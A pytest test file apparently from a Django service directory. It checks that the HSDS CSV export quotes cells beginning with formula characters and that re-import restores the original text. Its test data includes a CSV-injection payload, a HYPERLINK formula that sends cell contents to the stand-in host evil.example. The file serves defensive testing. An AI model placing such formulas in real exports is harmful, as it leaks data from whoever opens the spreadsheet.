"""Issue 15, item 4: the HSDS CSV tables write text that starts like a formula with a quote before it, as every
CSV export does (``minga.common.text.csv_text``), and reading the tables back takes that quote off again, so the
round trip through the CSV tables alone still gives the same services."""

import csv

import pytest
from django.core.management import call_command

from minga.exchange.hsds.importer import import_records
from minga.exchange.hsds.reading import read_package
from minga.services.models import Service

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
DESCRIPTION = "@SUM(A1:A9) +57 300 000 0000"


def number(value: str) -> bool:
    """A number written as one (a longitude of -77.7): a number, not a formula, so not quoted."""
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_formula_text_is_quoted_in_the_csv_and_read_back_unquoted(tmp_path):
    service = Service.objects.order_by("pk").first()
    Service.objects.filter(pk=service.pk).update(name_es=NAME, name_pt=NAME, name_en=NAME,
                                                 description_es=DESCRIPTION, description_pt=DESCRIPTION,
                                                 description_en=DESCRIPTION)
    call_command("export", "hsds", "--output", str(tmp_path))
    with (tmp_path / "services.csv").open(newline="", encoding="utf-8") as handle:
        row = next(row for row in csv.DictReader(handle) if row["id"] == str(service.hsds_id))
    assert (row["name"], row["description"]) == ("'" + NAME, "'" + DESCRIPTION)
    for path in tmp_path.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            assert not [value for row in csv.reader(handle) for value in row
                        if value.startswith(("=", "+", "-", "@", "\t", "\r")) and not number(value)], path.name

    (tmp_path / "services.json").unlink()
    [record] = [record for record in read_package(tmp_path) if record["id"] == str(service.hsds_id)]
    assert (record["name"], record["description"]) == (NAME, DESCRIPTION)
    report = import_records(read_package(tmp_path))
    assert (report.created, report.updated, report.refused) == (0, 0, {})
